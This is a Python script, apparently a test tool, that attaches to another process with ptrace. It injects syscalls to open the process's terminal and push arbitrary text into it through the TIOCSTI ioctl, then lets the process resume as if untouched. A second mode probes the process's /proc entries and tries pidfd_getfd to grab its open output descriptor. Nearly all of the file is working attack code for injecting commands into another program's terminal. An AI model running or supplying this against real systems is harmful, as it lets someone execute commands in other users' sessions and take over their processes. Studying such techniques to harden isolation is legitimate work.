"""Somebody who is user postgres, and makes another program of that user type into its terminal.

typing_attack.py PID TEXT   traces the program (ptrace(2)), has it open its terminal and type the text, and lets it go on as before

Prints a JSON object: what each step answered, 0 or more for success, an error's name otherwise. For x86-64 alone.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import signal
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

ATTACH, DETACH, GETREGS, SETREGS, SINGLESTEP, PEEK, POKE = 16, 17, 12, 13, 9, 1, 4
OPEN, IOCTL, CLOSE = 2, 16, 3
TIOCSTI = 0x5412
SYSCALL = 0x050F
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()  # noqa: SIM905 - as sys/user.h has them
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Registers(ctypes.Structure):
    """The registers of a traced program."""

    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES]


def trace(request: int, pid: int, address: int = 0, data: int = 0) -> int:
    """Call ptrace. Raises OSError."""
    ctypes.set_errno(0)
    answer = int(LIBC.ptrace(request, pid, address, data))
    if answer == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


class Victim:
    """A program that is traced, and calls the kernel as we want."""

    def __init__(self, pid: int) -> None:
        self._pid = pid
        self._before = Registers()
        trace(GETREGS, pid, 0, ctypes.addressof(self._before))
        self._word = trace(PEEK, pid, self._before.rip)
        self.room = int(self._before.rsp - 512) & ~15

    def call(self, number: int, first: int, second: int, third: int) -> int:
        """Have it call the kernel; returns what that answers."""
        registers = Registers.from_buffer_copy(self._before)
        registers.rax, registers.rdi, registers.rsi, registers.rdx, registers.orig_rax = number, first, second, third, 2**64 - 1
        trace(POKE, self._pid, self._before.rip, (self._word & ~0xFFFF) | SYSCALL)
        trace(SETREGS, self._pid, 0, ctypes.addressof(registers))
        trace(SINGLESTEP, self._pid)
        os.waitpid(self._pid, 0)
        trace(GETREGS, self._pid, 0, ctypes.addressof(registers))
        return int(ctypes.c_longlong(registers.rax).value)

    def write(self, text: bytes) -> int:
        """Put a few bytes where it does not look; returns their address."""
        for place in range(0, len(text) + 1, 8):
            piece = text[place : place + 8].ljust(8, b"\0")
            trace(POKE, self._pid, self.room + place, ctypes.c_longlong(int.from_bytes(piece, "little")).value)
        return self.room

    def let_go(self) -> None:
        """Have it go on as if nothing had happened."""
        trace(POKE, self._pid, self._before.rip, self._word)
        trace(SETREGS, self._pid, 0, ctypes.addressof(self._before))


@contextmanager
def traced(pid: int) -> Iterator[Victim]:
    """Trace a program. Raises OSError where that is not permitted."""
    trace(ATTACH, pid)
    os.waitpid(pid, 0)
    victim = Victim(pid)
    try:
        yield victim
    finally:
        victim.let_go()
        trace(DETACH, pid)


def named(answer: int) -> int | str:
    """A kernel's answer, an error by its name."""
    return errno.errorcode.get(-answer, "?") if answer < 0 else answer


def typed(victim: Victim, descriptor: int, text: str) -> int | str:
    """Have the program type a text into a terminal that it has open."""
    answer = 0
    for character in text.encode():
        answer = victim.call(IOCTL, descriptor, TIOCSTI, victim.write(bytes([character])))
        if answer < 0:
            break
    return named(answer)


def attack(pid: int, text: str) -> dict[str, int | str]:
    """Do all of it."""
    found: dict[str, int | str] = {}
    try:
        with traced(pid) as victim:
            found["traced"] = 0
            for descriptor in range(3):
                found[f"typed by {descriptor}"] = typed(victim, descriptor, text)
            terminal = victim.call(OPEN, victim.write(b"/dev/tty"), os.O_RDWR, 0)
            found["terminal"] = named(terminal)
            if terminal >= 0:
                found["typed"] = typed(victim, terminal, text)
                victim.call(CLOSE, terminal, 0, 0)
    except OSError as error:
        found["traced"] = errno.errorcode[error.errno or 0]
    return found


def look(pid: int) -> dict[str, int | str]:
    """Try to look into a program, and to take what it has open."""
    found: dict[str, int | str] = {}
    for name in ("fd", "environ", "mem", "maps", "root", "cwd"):
        path = Path(f"/proc/{pid}/{name}")
        try:
            if name == "fd":
                found[name] = len(list(path.iterdir()))
            elif name in ("root", "cwd"):
                found[name] = len(str(path.readlink()))
            else:
                with path.open("rb") as file:
                    found[name] = 0 if name == "mem" else len(file.read(10))
        except OSError as error:
            found[name] = errno.errorcode[error.errno or 0]
    # In a container nobody may call it, maybe not even for itself.
    if isinstance(taken(os.getpid()), int):
        found["taken"] = taken(pid)
    return found


def taken(pid: int) -> int | str:
    """Try to take what a program has open as its standard output (pidfd_getfd(2))."""
    ctypes.set_errno(0)
    answer = LIBC.syscall(438, os.pidfd_open(pid), 1, 0)
    return int(answer) if answer >= 0 else errno.errorcode[ctypes.get_errno()]


if __name__ == "__main__":
    signal.alarm(30)
    print(json.dumps(attack(int(sys.argv[1]), sys.argv[2]) if sys.argv[2:] else look(int(sys.argv[1]))))  # noqa: T201
